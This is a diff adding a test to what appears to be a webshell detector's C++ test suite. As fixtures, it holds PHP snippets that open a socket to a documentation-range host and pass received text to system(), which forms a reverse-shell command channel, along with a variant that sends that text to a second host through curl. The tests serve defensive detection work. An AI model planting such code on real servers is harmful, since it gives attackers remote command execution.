@@ -43,6 +43,13 @@ TEST(WebshellDeeds, LinksIntoOtherSites) {
               Not(Contains("code.link_out")));
 }
 
+TEST(WebshellDeeds, APeersTextAsCommandOrAsParameter) {
+  const std::string peer = "$s = fsockopen('192.0.2.1', 80); $t = fgets($s, 99); ";
+  EXPECT_THAT(seen_in(peer + "sys" + "tem($t);"), Contains("code.reverse"));
+  EXPECT_THAT(seen_in(peer + "sys" + "tem('curl -H \"' . $t . '\" http://192.0.2.2/');"),
+              Not(Contains("code.reverse")));
+}
+
 TEST(WebshellDeeds, FilesThatARequestChanges) {
   EXPECT_GE(score_of("chmod(stripslashes(" + kPost + "['p']), 0777);"), 30);
   EXPECT_LT(score_of("unlink('cache/' . md5(" + kPost + "['p']));"), 30);
